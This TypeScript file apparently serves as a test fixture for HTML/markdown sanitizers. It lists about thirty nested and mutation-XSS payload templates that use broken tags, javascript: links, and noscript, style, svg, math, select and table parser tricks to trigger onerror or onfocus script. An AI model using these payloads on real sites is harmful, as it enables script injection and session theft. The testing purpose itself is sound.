import { payloadsOf } from './payload.ts';

/** Broken and nested tags, and markup that changes its meaning when it is parsed a second time (mutation XSS). */
export const nestedPayloads = payloadsOf('nested', {
  'script-in-script': ({ script }) => `<scr<script>ipt>${script}</scr</script>ipt>`,
  'script-in-attribute-name': ({ script }) => `<img src=x on<script></script>error=${script}>`,
  'scheme-in-scheme': ({ call }) => `[Continue](javajavascript:script:${call})`,
  'double-bracket': ({ script }) => `<<script>${script}//<</script>`,
  'image-in-image': ({ script }) => `<img <img src=x onerror=${script}>`,
  'image-in-source': ({ script }) => `<img src="<img src=x onerror=${script}>">`,
  'image-triple-quote': ({ script }) => `<img """><script>${script}</script>">`,
  'open-tag': ({ script }) => `<a <b <i tabindex=0 autofocus onfocus=${script}>Text`,
  'closing-tag-attributes': ({ script }) =>
    `</p onclick=${script}><img src=x onerror=${script}></br onload=${script}>`,
  'comment-in-tag': ({ script }) => `<img <!-- --> src=x onerror=${script}>`,
  'link-in-link': ({ call }) => `[a [Continue](javascript:${call}) b](https://example.org)`,
  'image-in-link-in-table': ({ beacon, call }) => `| a |\n| - |\n| [![](${beacon})](javascript:${call}) |`,
  'html-in-markdown-in-html': ({ script }) =>
    `<details>\n<summary>\n\n**<img src=x onerror=${script}>**\n\n</summary>\n</details>`,
  'deep-elements': ({ script }) =>
    `${'<div>'.repeat(600)}<img src=x onerror=${script}>${'</div>'.repeat(600)}`,
  'deep-quotes': ({ script }) => `${'> '.repeat(60)}<img src=x onerror=${script}>`,
  'deep-brackets': ({ call }) => `${'['.repeat(200)}Continue${']'.repeat(200)}(javascript:${call})`,
  'noscript-title': ({ script }) =>
    `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
  'style-title': ({ script }) => `<style><a title="</style><img src=x onerror=${script}>"></style>`,
  'textarea-title': ({ script }) =>
    `<textarea><a title="</textarea><img src=x onerror=${script}>"></textarea>`,
  'xmp-title': ({ script }) => `<xmp><p title="</xmp><img src=x onerror=${script}>"></xmp>`,
  'noembed-title': ({ script }) => `<noembed><p title="</noembed><img src=x onerror=${script}>"></noembed>`,
  'iframe-text': ({ script }) => `<iframe><p title="</iframe><img src=x onerror=${script}>"></iframe>`,
  'comment-title': ({ script }) => `<!-- <p title="--><img src=x onerror=${script}>"> -->`,
  'svg-style-title': ({ script }) => `<svg></p><style><a id="</style><img src=x onerror=${script}>"></svg>`,
  'svg-style-comment': ({ script }) =>
    `<svg><style><!--</style><img title="--><img src=x onerror=${script}>"></svg>`,
  'math-style': ({ script }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script}&gt;">`,
  'math-form': ({ script }) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${script}>`,
  'math-annotation': ({ script }) =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${script}></style></annotation-xml></math>`,
  'math-comment': ({ script }) =>
    `<math><mi><table><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${script}>">`,
  'select-template': ({ script }) =>
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${script}>">`,
  'select-style': ({ script }) =>
    `<select><option><style></option></select><img src=x onerror=${script}></style>`,
  'table-form': ({ script }) =>
    `<table><form><tr><td><form><svg><style></form></table><img src=x onerror=${script}></style>`,
  'foster-parent': ({ script }) =>
    `<table><a href="#"><table></table><img src=x onerror=${script}></a></table>`,
});
